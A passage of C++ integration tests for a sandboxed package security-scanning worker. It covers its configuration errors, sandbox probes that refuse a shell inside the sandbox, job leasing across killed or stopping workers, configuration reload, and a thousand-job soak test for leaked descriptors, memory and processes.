  EXPECT_EQ(both.status, 2);
  EXPECT_EQ(both.err.substr(0, both.err.find('\n')),
            "batlehub: [server] roles (upstream's default when absent: proxy and worker) in " + cfg.string() +
                " asks for the proxy role, and this build has none: it is the scan worker alone. Start it with "
                "--roles worker (or [server] roles = [\"worker\"]) and run upstream's batlehub for the proxy");
  Ran proxy = cli({"--config", cfg.string(), "--roles", "proxy,worker"});
  EXPECT_EQ(proxy.status, 2);
  EXPECT_NE(proxy.err.find("batlehub: --roles proxy,worker asks for the proxy role, and this build has none"),
            std::string::npos)
      << proxy.err;
  Ran typo = cli({"--config", cfg.string(), "--roles", "wroker"});
  EXPECT_EQ(typo.status, 2);
  EXPECT_NE(typo.err.find("'wroker' is not a role; give proxy, worker or proxy,worker"), std::string::npos) << typo.err;
  // [server] roles = ["worker"] in the file starts it without the flag.
  const fs::path worker_only = s_.root() / "worker-only.toml";
  Scratch::write(worker_only, "[server]\nroles = [\"worker\"]\n" + Scratch::read(cfg).substr(Scratch::read(cfg).find('\n') + 1));
  Process w2({BATLEHUB_BIN, "--config", worker_only.string()}, env(), s_.root() / "w2.out", s_.root() / "w2.err");
  ASSERT_TRUE(w2.wait_for_log("INFO security worker: ready (")) << w2.out() << w2.err();
  w2.signal(SIGTERM);
  EXPECT_EQ(w2.wait_exit(30s), 0) << w2.err();
}

// upstream-storage-and-queue.md A.2: a filesystem backend's path is created at start; one
// that cannot be stops the worker there, named, before any listener or probe.
TEST_P(WorkerCli, a_filesystem_store_that_cannot_be_created_stops_the_worker_at_start) {
  const fs::path blocker = s_.root() / "not-a-directory";
  Scratch::write(blocker, "x");
  const fs::path cfg = config("", "", "blocked.toml");
  std::string text = Scratch::read(cfg);
  const std::string cache = (s_.root() / "cache").string();
  text.replace(text.find("path = \"" + cache + "\""), 9 + cache.size(), "path = \"" + (blocker / "cache").string() + "\"");
  Scratch::write(cfg, text);
  auto w = start_worker(cfg, "blocked");
  EXPECT_EQ(w->wait_exit(30s), 2) << w->err();
  EXPECT_TRUE(w->logged("storage backend 'default' (filesystem " + (blocker / "cache").string() +
                        "): its directory cannot be created: Not a directory"))
      << w->err();
  EXPECT_FALSE(w->logged("listening for /livez")) << w->err();
}

// RFC 0022 §4.2: rlimits are best-effort. A worker whose hard RLIMIT_NPROC is below the 1024 the
// agent asks for still scans; the operator learns it from one log line and a counter.
TEST_P(WorkerCli, a_worker_under_a_low_hard_nproc_scans_and_says_which_limit_it_lowered) {
  const fs::path cfg = config();
  auto w = std::make_unique<Process>(std::vector<std::string>{"/usr/bin/prlimit", "--nproc=500:500", "--", BATLEHUB_BIN,
                                                              "worker", "--config", cfg.string()},
                                     env(), s_.root() / "w.out", s_.root() / "w.err");
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->out() << w->err();
  Ran sub = cli({"submit", "--config", cfg.string(), "--registry", registry_, package("leftpad-1.3.0.tgz"),
                 package("rightpad-1.0.0.tgz")});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  for (const auto& c : {coord("leftpad", "1.3.0"), coord("rightpad", "1.0.0")}) {
    Ran ok = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "100ms", c});
    EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w->err();
    EXPECT_NE(ok.out.find(" is allowed ("), std::string::npos) << ok.out;
  }
  const std::string line =
      "WARN sandbox: scanner postmortem ran with RLIMIT_NPROC 500 where 1024 was asked: the worker's hard limit is "
      "lower";
  EXPECT_TRUE(w->logged(line)) << w->err();
  // Once for the generation, however many runs it lowered.
  const std::string err = w->err();
  EXPECT_EQ(err.find(line), err.rfind(line)) << err;
  std::uint16_t port = listening_port(*w);
  ASSERT_NE(port, 0) << w->err();
  std::string scrape = http_get(port, "/metrics");
  EXPECT_EQ(series(scrape, "batlehub_sandbox_rlimits_lowered_total{resource=\"RLIMIT_NPROC\",runtime=\"bwrap\"}"), 2.0)
      << scrape;
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
}

TEST_P(WorkerCli, a_worker_killed_mid_scan_loses_its_lease_to_another_which_records_the_verdict_once) {
  // A short lease, so that the test does not wait long for it to expire; the scan takes 3 s.
  fs::path cfg = config("job_timeout_secs = 6\n");
  auto a = start_worker(cfg, "a");
  ASSERT_TRUE(a->wait_for_log("INFO security worker: ready (")) << a->err();
  ASSERT_EQ(
      cli({"submit", "--config", cfg.string(), "--registry", registry_, package("slow-1.0.0.tgz", false, 3)}).status,
      0);

  // Killed while its sandbox runs: the run dir it made is there.
  const std::string left_prefix = "batlehub-run-" + std::to_string(a->pid()) + "-postmortem-";
  auto left_behind = [&] {
    std::vector<std::string> v;
    for (const auto& e : fs::directory_iterator(tmp_)) {
      if (e.path().filename().string().starts_with(left_prefix)) v.push_back(e.path().string());
    }
    return v;
  };
  ASSERT_TRUE(eventually([&] { return !left_behind().empty(); }, 30s)) << a->err();
  a->signal(SIGKILL);
  ASSERT_EQ(a->wait_exit(10s), 128 + SIGKILL);
  auto q = queue();
  ASSERT_TRUE(q);
  auto held = q->open_job(registry_, "slow", "1.0.0");
  ASSERT_TRUE(held && held->has_value());
  EXPECT_EQ((*held)->leased_by.substr((*held)->leased_by.rfind('-') + 1), std::to_string(a->pid()));
  EXPECT_FALSE(left_behind().empty());

  // The second worker sweeps what the first left at its start, then takes the job once the
  // lease has expired.
  auto b = start_worker(cfg, "b");
  ASSERT_TRUE(b->wait_for_log("INFO security worker: ready (")) << b->err();
  EXPECT_TRUE(b->logged("sweep at start: removed")) << b->err();
  EXPECT_TRUE(left_behind().empty());
  // Counted under its kind (RFC 0022 §6.6): the killed run's directory.
  const std::uint16_t port = listening_port(*b);
  ASSERT_NE(port, 0) << b->err();
  EXPECT_EQ(
      series(http_get(port, "/metrics"), "batlehub_sandbox_orphans_swept_total{kind=\"run_dir\",runtime=\"bwrap\"}"),
      1.0)
      << b->err();
  Ran done = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("slow", "1.0.0")});
  EXPECT_EQ(done.status, 0) << done.out << b->err();

  auto jobs = q->jobs(registry_, "slow", "1.0.0");
  ASSERT_TRUE(jobs);
  ASSERT_EQ(jobs->size(), 1u);
  EXPECT_EQ((*jobs)[0].attempts, 2);
  EXPECT_EQ((*jobs)[0].leased_by.substr((*jobs)[0].leased_by.rfind('-') + 1), std::to_string(b->pid()));
  EXPECT_TRUE((*jobs)[0].completed_at.has_value());
  auto v = q->verdict(registry_, "slow", "1.0.0");
  ASSERT_TRUE(v && v->has_value());
  EXPECT_EQ((*v)->verdict.state, core::VerdictState::kAllowed);
  b->signal(SIGTERM);
  EXPECT_EQ(b->wait_exit(30s), 0);
}

TEST_P(WorkerCli, a_room_broken_while_the_worker_runs_stops_leasing_until_a_re_probe_passes) {
  fs::path cfg = config("", "probe_interval_secs = 1\n");
  auto w = start_worker(cfg);
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  std::uint16_t port = listening_port(*w);
  ASSERT_NE(port, 0);
  auto ready = [&] { return series(http_get(port, "/metrics"), "batlehub_sandbox_ready{runtime=\"bwrap\"}"); };
  EXPECT_EQ(ready(), 1.0);

  // A shell copied into the room: the next re-probe's no_shell fails.
  fs::create_directories(rooms_ / "postmortem/bin");
  fs::copy_file("/bin/dash", rooms_ / "postmortem/bin/sh");
  ASSERT_TRUE(eventually([&] { return ready() == 0.0; }, 30s)) << w->err();
  EXPECT_TRUE(w->wait_for_log("ERROR security worker: not ready: a re-probe failed: no_shell")) << w->err();
  std::string scrape = http_get(port, "/metrics");
  EXPECT_GE(
      series(scrape, "batlehub_sandbox_probe_failures_total{assertion=\"no_shell\",runtime=\"bwrap\"}").value_or(0),
      1.0)
      << scrape;

  // Nothing new is leased while it stays broken.
  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("held-1.0.0.tgz")}).status, 0);
  std::this_thread::sleep_for(3s);
  auto q = queue();
  ASSERT_TRUE(q);
  auto job = q->open_job(registry_, "held", "1.0.0");
  ASSERT_TRUE(job && job->has_value());
  EXPECT_EQ((*job)->attempts, 0);
  EXPECT_TRUE((*job)->leased_by.empty());
  // Said once, not at every re-probe.
  std::string err = w->err();
  std::size_t said = 0;
  for (std::size_t at = 0; (at = err.find("not ready: a re-probe failed", at)) != std::string::npos; ++at) ++said;
  EXPECT_EQ(said, 1u) << err;

  // Repaired: the next re-probe passes and leasing resumes.
  fs::remove_all(rooms_ / "postmortem/bin");
  ASSERT_TRUE(eventually([&] { return ready() == 1.0; }, 30s)) << w->err();
  EXPECT_TRUE(w->logged("ready again (")) << w->err();
  Ran done = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("held", "1.0.0")});
  EXPECT_EQ(done.status, 0) << done.out << w->err();
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0);
}

TEST_P(WorkerCli, sighup_keeps_the_old_configuration_when_the_new_one_is_invalid_and_applies_a_valid_one) {
  fs::path cfg = config();
  auto w = start_worker(cfg);
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  std::uint16_t port = listening_port(*w);
  const auto slots = [&] { return series(http_get(port, "/metrics"), "batlehub_sandbox_pool_size"); };
  const auto before = slots();
  ASSERT_TRUE(before.has_value());

  Scratch::write(cfg, slurp(cfg) + "\n[worker.sandbox.bogus]\nx = 1\n");
  w->signal(SIGHUP);
  ASSERT_TRUE(w->wait_for_log("ERROR config: reload refused, the configuration in use is kept: " + cfg.string()))
      << w->err();
  EXPECT_EQ(slots(), before);
  EXPECT_FALSE(w->exited());

  config("pool_slots = 1\n");  // rewrites cfg, valid
  w->signal(SIGHUP);
  ASSERT_TRUE(w->wait_for_log("INFO config: reloaded " + cfg.string())) << w->err();
  EXPECT_TRUE(eventually([&] { return slots() == 1.0; }, 10s));
  // It is still ready and still scans.
  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("after-1.0.0.tgz")}).status, 0);
  EXPECT_EQ(cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "200ms", coord("after", "1.0.0")})
                .status,
            0);
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0);
}

TEST_P(WorkerCli, a_worker_whose_walls_fail_at_start_leases_nothing_and_says_why_in_two_lines) {
  fs::create_directories(rooms_ / "postmortem/bin");
  fs::copy_file("/bin/dash", rooms_ / "postmortem/bin/sh");
  fs::path cfg = config();
  ASSERT_EQ(cli({"submit", "--config", cfg.string(), "--registry", registry_, package("early-1.0.0.tgz")}).status, 0);
  auto w = start_worker(cfg);
  EXPECT_EQ(w->wait_exit(60s), 1) << w->err();
  auto out = lines(w->out());
  ASSERT_GE(out.size(), 2u) << w->out();
  EXPECT_TRUE(out[0].starts_with("no_shell: ")) << out[0];
  EXPECT_NE(out[1].find("bwrap"), std::string::npos) << out[1];
  EXPECT_FALSE(w->logged("ready (")) << w->err();
  auto q = queue();
  ASSERT_TRUE(q);
  auto job = q->open_job(registry_, "early", "1.0.0");
  ASSERT_TRUE(job && job->has_value());
  EXPECT_EQ((*job)->attempts, 0);
}

TEST_P(WorkerCli, sigterm_lets_a_running_scan_finish_within_the_grace_period) {
  fs::path cfg = config("shutdown_grace_secs = 30\n");
  auto w = start_worker(cfg);
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  ASSERT_EQ(
      cli({"submit", "--config", cfg.string(), "--registry", registry_, package("grace-1.0.0.tgz", false, 2)}).status,
      0);
  ASSERT_TRUE(w->wait_for_log("scanning with postmortem")) << w->err();
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(60s), 0) << w->err();
  EXPECT_TRUE(w->logged("stopping: nothing new is leased; 1 scan(s) running")) << w->err();
  auto q = queue();
  ASSERT_TRUE(q);
  auto v = q->verdict(registry_, "grace", "1.0.0");
  ASSERT_TRUE(v && v->has_value()) << w->err();
}

TEST_P(WorkerCli, sigterm_past_the_grace_period_releases_the_scan_for_another_worker) {
  fs::path cfg = config("shutdown_grace_secs = 1\n");
  auto w = start_worker(cfg);
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  ASSERT_EQ(
      cli({"submit", "--config", cfg.string(), "--registry", registry_, package("long-1.0.0.tgz", false, 20)}).status,
      0);
  ASSERT_TRUE(w->wait_for_log("scanning with postmortem")) << w->err();
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
  EXPECT_TRUE(w->logged("released for another worker")) << w->err();
  auto q = queue();
  ASSERT_TRUE(q);
  auto job = q->open_job(registry_, "long", "1.0.0");
  ASSERT_TRUE(job && job->has_value());
  EXPECT_TRUE((*job)->leased_by.empty() || (*job)->leased_until <= *q->now());
  EXPECT_NE((*job)->last_error.find("released: the worker stopped"), std::string::npos) << (*job)->last_error;
}

// Two workers on one queue, many jobs: each job leased once, by one of them, and every
// verdict recorded once — checked from the database and from the workers' own logs.
TEST_P(WorkerCli, two_workers_never_scan_the_same_job) {
  constexpr int kJobs = 24;
  fs::path cfg = config("max_concurrent = 3\n");
  std::vector<std::string> args{"submit", "--config", cfg.string(), "--registry", registry_};
  for (int i = 0; i < kJobs; ++i) args.push_back(package("many-1.0." + std::to_string(i) + ".tgz"));
  ASSERT_EQ(cli(args).status, 0);
  auto a = start_worker(cfg, "a");
  auto b = start_worker(cfg, "b");
  auto q = queue();
  ASSERT_TRUE(q);
  auto all_done = [&] {
    for (int i = 0; i < kJobs; ++i) {
      auto v = q->verdict(registry_, "many", "1.0." + std::to_string(i));
      if (!v || !v->has_value()) return false;
    }
    return true;
  };
  ASSERT_TRUE(eventually(all_done, 180s)) << a->err() << b->err();
  std::set<std::string> by_a, by_b;
  for (int i = 0; i < kJobs; ++i) {
    auto jobs = q->jobs(registry_, "many", "1.0." + std::to_string(i));
    ASSERT_TRUE(jobs);
    ASSERT_EQ(jobs->size(), 1u);
    const core::ScanJob& j = (*jobs)[0];
    EXPECT_EQ(j.attempts, 1) << j.id << " was leased more than once";
    EXPECT_TRUE(j.completed_at.has_value());
    const std::string pid = j.leased_by.substr(j.leased_by.rfind('-') + 1);
    (pid == std::to_string(a->pid()) ? by_a : by_b).insert(j.id);
    // Scanned by its holder only: the other worker's log never names it.
    const std::string scanning = "job " + j.id + ": ";
    EXPECT_NE(a->logged(scanning + coord("many", "1.0." + std::to_string(i))),
              b->logged(scanning + coord("many", "1.0." + std::to_string(i))))
        << j.id;
  }
  EXPECT_EQ(by_a.size() + by_b.size(), static_cast<std::size_t>(kJobs));
  a->signal(SIGTERM);
  b->signal(SIGTERM);
  EXPECT_EQ(a->wait_exit(30s), 0);
  EXPECT_EQ(b->wait_exit(30s), 0);
  if (HasFailure()) std::cout << "--- worker a\n" << a->err() << "--- worker b\n" << b->err();
}

INSTANTIATE_TEST_SUITE_P(Backends, WorkerCli, ::testing::Values(Backend::kSqlite, Backend::kPostgres), backend_name);
INSTANTIATE_TEST_SUITE_P(Sqlite, WorkerCliSqlite, ::testing::Values(Backend::kSqlite), backend_name);

// The soak: 1,000 small jobs through one worker on SQLite under bwrap. Measured twice with
// the worker idle — after the first 100 and after all 1,000 — so that what a scan holds
// while it runs is not counted: open descriptors, resident memory, run directories left
// in TMPDIR, and processes still parented to the worker.
class WorkerSoak : public WorkerCli {
 protected:
  struct Sample {
    std::size_t fds = 0;
    long rss_kb = 0;
    std::size_t children = 0;
  };
  // The fewest descriptors seen over half a second: the listener closes the test's own
  // scrape connection a moment after answering it, and that one is not the worker's to keep.
  static std::size_t steady_fds(pid_t pid) {
    std::size_t fewest = SIZE_MAX;
    for (int i = 0; i < 5; ++i) {
      std::size_t n = 0;
      for ([[maybe_unused]] const auto& e : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd")) ++n;
      fewest = std::min(fewest, n);
      std::this_thread::sleep_for(100ms);
    }
    return fewest;
  }
  static Sample sample(pid_t pid) {
    Sample s;
    s.fds = steady_fds(pid);
    std::istringstream status(slurp("/proc/" + std::to_string(pid) + "/status"));
    for (std::string line; std::getline(status, line);) {
      if (line.starts_with("VmRSS:")) s.rss_kb = std::stol(line.substr(6));
    }
    for (const auto& e : fs::directory_iterator("/proc")) {
      const std::string name = e.path().filename().string();
      if (name.find_first_not_of("0123456789") != std::string::npos) continue;
      const std::string stat = slurp(e.path() / "stat");
      auto close = stat.rfind(')');
      if (close == std::string::npos) continue;
      std::istringstream rest(stat.substr(close + 2));
      std::string state;
      pid_t ppid = 0;
      rest >> state >> ppid;
      if (ppid == pid) ++s.children;
    }
    return s;
  }
};

TEST_P(WorkerSoak, a_thousand_jobs_leave_no_descriptor_directory_or_process_behind_and_memory_flat) {
  constexpr int kFirst = 100, kAll = 1000;
  fs::path cfg = config("max_concurrent = 8\n");
  // One archive, a thousand coordinates: the artifact is stored once, each job scans it.
  const std::string archive = package("soak-1.0.0.tgz");
  auto submit = [&](int from, int to) {
    for (int i = from; i < to; ++i) {
      Ran r = cli({"submit", "--config", cfg.string(), "--registry", registry_, "--name", "soak", "--version",
                   "1.0." + std::to_string(i), archive});
      if (r.status != 0) return false;
    }
    return true;
  };
  auto w = start_worker(cfg);
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  const std::uint16_t port = listening_port(*w);
  const std::string verdicts =
      "batlehub_verdicts_total{registry=\"" + registry_ + "\",state=\"allowed\",trigger=\"first_seen\"}";
  auto recorded = [&] { return series(http_get(port, "/metrics"), verdicts).value_or(0); };
  auto idle = [&] { return series(http_get(port, "/metrics"), "batlehub_sandbox_permits_in_use") == 0.0; };

  ASSERT_TRUE(submit(0, kFirst));
  ASSERT_TRUE(eventually([&] { return recorded() >= kFirst && idle(); }, 300s)) << recorded();
  const Sample at_100 = sample(w->pid());
  ASSERT_TRUE(submit(kFirst, kAll));
  ASSERT_TRUE(eventually([&] { return recorded() >= kAll && idle(); }, 900s)) << recorded();
  const Sample at_1000 = sample(w->pid());

  std::cout << "soak: job 100: " << at_100.fds << " fds, RSS " << at_100.rss_kb << " kB; job 1000: " << at_1000.fds
            << " fds, RSS " << at_1000.rss_kb << " kB\n";
  RecordProperty("rss_kb_at_100", static_cast<int>(at_100.rss_kb));
  RecordProperty("rss_kb_at_1000", static_cast<int>(at_1000.rss_kb));
  EXPECT_EQ(at_1000.fds, at_100.fds);
  EXPECT_EQ(at_1000.children, 0u);
  EXPECT_EQ(at_100.children, 0u);
  // Flat: 900 more jobs may not cost more than 8 MiB (a leak of 10 KiB a job would).
  EXPECT_LT(at_1000.rss_kb - at_100.rss_kb, 8 * 1024) << at_100.rss_kb << " kB → " << at_1000.rss_kb << " kB";
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(tmp_)) left.push_back(e.path().filename().string());
  EXPECT_TRUE(left.empty()) << left.size() << " entries left in TMPDIR, e.g. " << left.front();
  // Every job once.
  auto q = queue();
  ASSERT_TRUE(q);
  for (int i : {0, 99, 500, 999}) {
    auto jobs = q->jobs(registry_, "soak", "1.0." + std::to_string(i));
    ASSERT_TRUE(jobs);
    ASSERT_EQ(jobs->size(), 1u);
    EXPECT_EQ((*jobs)[0].attempts, 1);
  }
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(60s), 0);
}

INSTANTIATE_TEST_SUITE_P(Sqlite, WorkerSoak, ::testing::Values(Backend::kSqlite), backend_name);

}  // namespace
}  // namespace batlehub::testing
